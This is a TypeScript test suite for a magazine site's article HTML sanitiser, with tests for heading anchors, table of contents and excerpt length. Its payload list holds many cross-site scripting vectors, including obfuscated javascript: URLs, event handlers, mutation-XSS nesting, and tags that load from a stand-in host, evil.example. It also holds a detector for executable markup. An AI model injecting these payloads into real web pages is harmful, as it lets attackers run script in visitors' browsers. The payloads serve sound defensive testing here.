import { parseDocument, DomUtils } from 'htmlparser2';
import { excerptOf, renderArticleHtml, sanitizeArticleHtml } from '../../../server/magazine/sanitize';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">text</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
  '<div id="__NEXT_DATA__" class="x">clobber</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<a href="//evil.example/">protocol-relative</a>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<h2 onclick="alert(1)" id="x">見出し</h2>',
];

const FORBIDDEN_TAGS = new Set(['script', 'style', 'iframe', 'object', 'embed', 'svg', 'math', 'noscript', 'template', 'form', 'input', 'button', 'meta', 'base', 'link']);

/** Parses the output as a browser would and reports anything executable that survived. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const doc = parseDocument(html, { lowerCaseAttributeNames: true, decodeEntities: true });
  for (const el of DomUtils.findAll(() => true, doc.children)) {
    if (FORBIDDEN_TAGS.has(el.name)) found.push(`<${el.name}>`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (name.startsWith('on')) found.push(`${el.name}[${name}]`);
      if (name === 'style' || name === 'class' || (name === 'id' && el.name !== 'h2' && el.name !== 'h3')) found.push(`${el.name}[${name}]`);
      const v = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if ((name === 'href' || name === 'src') && /^(javascript|data|vbscript):/.test(v)) found.push(`${el.name}[${name}=${value}]`);
      if ((name === 'href' || name === 'src') && v.startsWith('//')) found.push(`${el.name}[${name}=${value}]`);
    }
  }
  return found;
}

describe('article HTML sanitiser', () => {
  it.each(PAYLOADS)('makes %s inert when storing', (payload) => {
    const out = sanitizeArticleHtml(`<p>前</p>${payload}<p>後</p>`);
    expect(dangers(out)).toEqual([]);
    expect(out).toContain('<p>前</p>');
  });

  it.each(PAYLOADS)('makes %s inert when rendering', (payload) => {
    expect(dangers(renderArticleHtml(payload).html)).toEqual([]);
  });

  it.each(PAYLOADS)('is stable: sanitising its own output changes nothing (no mutation on a second pass) for %s', (payload) => {
    const once = sanitizeArticleHtml(payload);
    expect(sanitizeArticleHtml(once)).toBe(once);
  });

  it('keeps editorial markup, safe links and images', () => {
    const out = sanitizeArticleHtml('<h2>見出し</h2><p><strong>太字</strong>と<a href="https://example.jp/a" target="_blank">リンク</a></p><figure><img src="/media/articles/1/body/1.jpg" alt="写真"><figcaption>説明</figcaption></figure><ul><li>項目</li></ul><a href="mailto:info@example.jp">メール</a>');
    expect(out).toContain('<a href="https://example.jp/a" target="_blank" rel="noopener noreferrer">リンク</a>');
    expect(out).toContain('<img src="/media/articles/1/body/1.jpg" alt="写真" />');
    expect(out).toContain('<strong>太字</strong>');
    expect(out).toContain('<a href="mailto:info@example.jp">メール</a>');
  });

  it('keeps the page separator and renders headings with anchors and a table of contents', () => {
    expect(sanitizeArticleHtml('<p>1</p><!--nextpage--><p>2</p><!-- other comment -->')).toBe('<p>1</p>\n<!--nextpage-->\n<p>2</p>');
    const { html, toc } = renderArticleHtml('<h2>準備 &amp; 予算</h2><h3>小見出し</h3><h4>対象外</h4><img src="/media/articles/1/body/1.jpg" alt="">');
    expect(toc).toEqual([{ id: 'section-1', text: '準備 & 予算', level: 2 }, { id: 'section-2', text: '小見出し', level: 3 }]);
    expect(html).toContain('<h2 id="section-1">');
    expect(html).toContain('src="/img?url=%2Fmedia%2Farticles%2F1%2Fbody%2F1.jpg&amp;width=700"');
    expect(html).toContain('loading="lazy"');
  });
});

describe('excerpt', () => {
  it('is at most 120 characters, marking a cut with an ellipsis', () => {
    const long = 'あ'.repeat(200);
    expect(Array.from(excerptOf(long))).toHaveLength(120);
    expect(excerptOf(long).endsWith('…')).toBe(true);
    expect(excerptOf('短い抜粋')).toBe('短い抜粋');
    expect(Array.from(excerptOf('😀'.repeat(130)))).toHaveLength(120);
  });
});
